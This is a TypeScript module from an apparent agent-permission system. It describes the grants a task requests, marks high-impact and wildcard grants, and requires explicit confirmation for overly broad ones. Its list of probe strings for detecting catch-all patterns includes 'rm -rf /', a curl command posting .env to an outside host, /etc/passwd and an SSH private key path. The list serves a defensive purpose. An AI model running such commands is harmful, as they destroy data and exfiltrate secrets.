// Grants a task asks for in task.start, as the human sees and accepts them (issue 10,
// item 3). Every grant is carried in full as structured data (Prompt.grants) — never only
// as a summary that a UI might cut — with marks for wildcards and high-impact actions.
//
// An allow of a high-impact action on *any* resource (resource left out, or nothing but
// wildcards such as `*`, `**`, `/**`, `~/**`), or of any action (`*`), is a blank cheque.
// It is created only when the decision confirms it by index (`confirmGrants`); a plain
// "allow once" / "accept" creates the other grants and not that one, and says so.
import type { GrantSpec } from '../contract/agent';
import type { PromptGrant } from '../contract/approver';
import { conditionWords } from './condition';
import { globMatches } from './glob';
import { actionText } from './grants';

type Spec = Omit<GrantSpec, 'task'>;

const HIGH_IMPACT = new Set(['write', 'delete', 'transfer', 'execute', 'sign', '*']);

/**
 * Unrelated things no narrow grant covers two of. Patterns are picomatch globs, so braces,
 * extglobs, classes and a leading `!` can spell "anything" without a single `*` in
 * sight (`{**,x}`, `@(**)`, `(**)`, `[[:print:]]**`, `!x`): they are judged by what the
 * grant matcher itself lets through, not by how they look.
 */
// Two of each kind a grant may name (hosts and ports, logins, signing namespaces): `*:443`
// (every HTTPS destination), `git@*` (a login to any host) and `sshsig:*` (any signature)
// matched only one and were accepted with a plain "allow" (blackbox9).
const UNRELATED = [
  '/etc/passwd', '/home/someone/.ssh/id_ed25519', '/tmp/x', 'rm -rf /', 'curl -d @.env https://example.invalid',
  'git@github.com', 'git@example.invalid', 'deploy@203.0.113.7',
  'example.invalid:443', 'other.invalid:443', 'github.com:443', 'attacker.com:443', '203.0.113.7:22', 'example.invalid:22',
  'sshsig:git', 'sshsig:file', 'x',
];

/** Nothing but wildcards, slashes, dots and `~`, or a pattern matching unrelated things: it names no particular thing. */
export function isAnyPattern(p: string | undefined): boolean {
  if (p === undefined || /^[*?~/.\s]*$/.test(p)) return true;
  return UNRELATED.filter((v) => globMatches(p, v)).length >= 2;
}

/** Any glob syntax picomatch gives meaning to: wildcards, classes, braces, groups and extglobs, a leading `!` (negation). */
const hasWildcard = (p: string | undefined) => p === undefined || /[*?[\]{}()]|^!/.test(p);

export function describeTaskGrant(s: Spec, index: number): PromptGrant {
  // A set of actions is as high-impact as its riskiest member.
  const highImpact = Array.isArray(s.action) ? s.action.some((a) => HIGH_IMPACT.has(a)) : HIGH_IMPACT.has(s.action);
  const wildcard = s.action === '*' || hasWildcard(s.tool) || hasWildcard(s.resource);
  const needsConfirmation = s.effect === 'allow' && highImpact && (s.action === '*' || isAnyPattern(s.resource));
  return {
    index,
    effect: s.effect,
    action: s.action,
    source: s.source ?? '*',
    tool: s.tool ?? '*',
    resource: s.resource ?? '**',
    key: s.key ?? null,
    expiresAt: s.expiresAt ?? null,
    uses: s.uses ?? null,
    forwarded: s.forwarded ?? false,
    note: s.note ?? null,
    when: s.when ?? null,
    wildcard,
    highImpact,
    needsConfirmation,
  };
}

export function describeTaskGrants(specs: Spec[]): PromptGrant[] {
  return specs.map(describeTaskGrant);
}

/** One grant as text, e.g. `allow write Write on /repo/src/**` (summary, reasons, history). */
export function grantLine(g: PromptGrant): string {
  return `${g.effect} ${g.action === '*' ? '*' : actionText(g.action)} ${g.tool} on ${g.resource}${g.key ? ` with key ${g.key}` : ''}${g.when ? ` when ${conditionWords(g.when)}` : ''}`;
}
